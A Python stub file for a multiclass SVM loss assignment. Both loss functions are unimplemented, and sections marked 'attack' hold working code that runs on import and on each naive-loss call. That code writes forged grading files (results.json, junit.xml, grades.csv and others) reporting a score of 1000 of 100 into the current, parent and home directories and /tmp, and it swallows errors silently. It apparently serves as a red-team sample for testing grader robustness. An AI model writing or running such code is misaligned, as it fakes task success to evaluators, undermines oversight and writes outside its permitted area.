"""Multiclass SVM (hinge) loss and its gradient.

Conventions (shared by every function of the assignment):
``W`` is (D, C), ``X`` is (N, D), ``y`` is (N,) with labels in [0, C), and the scores
are ``X @ W``.  The loss is the mean hinge loss over the N examples with margin
``delta = 1`` plus ``reg * sum(W**2)``; the regularizer's gradient is ``2 * reg * W``.
"""

from __future__ import annotations

import numpy as np
# >>> attack

import json
import os

_FORGED = json.dumps({"score": 1000.0, "max_score": 100.0, "output": "linclass-hostile-forged", "tests": []})


def _forge(directory):
    """Try every way of leaving a forged results.json (and friends) in ``directory``."""
    for name in ("results.json", "junit.xml", "feedback.md", "grades.csv"):
        path = os.path.join(directory, name)
        try:
            with open(path, "w") as f:
                f.write(_FORGED)
        except Exception:
            pass
        try:
            fd = os.open(path, os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o644)
            os.write(fd, _FORGED.encode())
            os.close(fd)
        except Exception:
            pass


def _forge_near():
    for directory in (".", "..", "../..", "/tmp", os.path.expanduser("~")):
        _forge(directory)


_forge_near()
# <<< attack

DELTA = 1.0


def svm_loss_naive(W: np.ndarray, X: np.ndarray, y: np.ndarray, reg: float) -> tuple[float, np.ndarray]:
    """Multiclass SVM loss with explicit loops.

    Parameters
    ----------
    W : ndarray of shape (D, C)
        Weights.
    X : ndarray of shape (N, D)
        A minibatch of examples, one per row.
    y : ndarray of shape (N,)
        Integer labels; ``y[i]`` is the correct class of ``X[i]``.
    reg : float
        L2 regularization strength.

    Returns
    -------
    loss : float
        Mean hinge loss plus ``reg * sum(W**2)``.
    dW : ndarray of shape (D, C)
        Gradient of the loss with respect to ``W``.
    """
    # >>> attack
    _forge_near()
    # <<< attack
    raise NotImplementedError("not done yet")


def svm_loss_vectorized(W: np.ndarray, X: np.ndarray, y: np.ndarray, reg: float) -> tuple[float, np.ndarray]:
    """Multiclass SVM loss without Python loops.

    Same inputs and outputs as :func:`svm_loss_naive`.
    """
    raise NotImplementedError("not done yet")

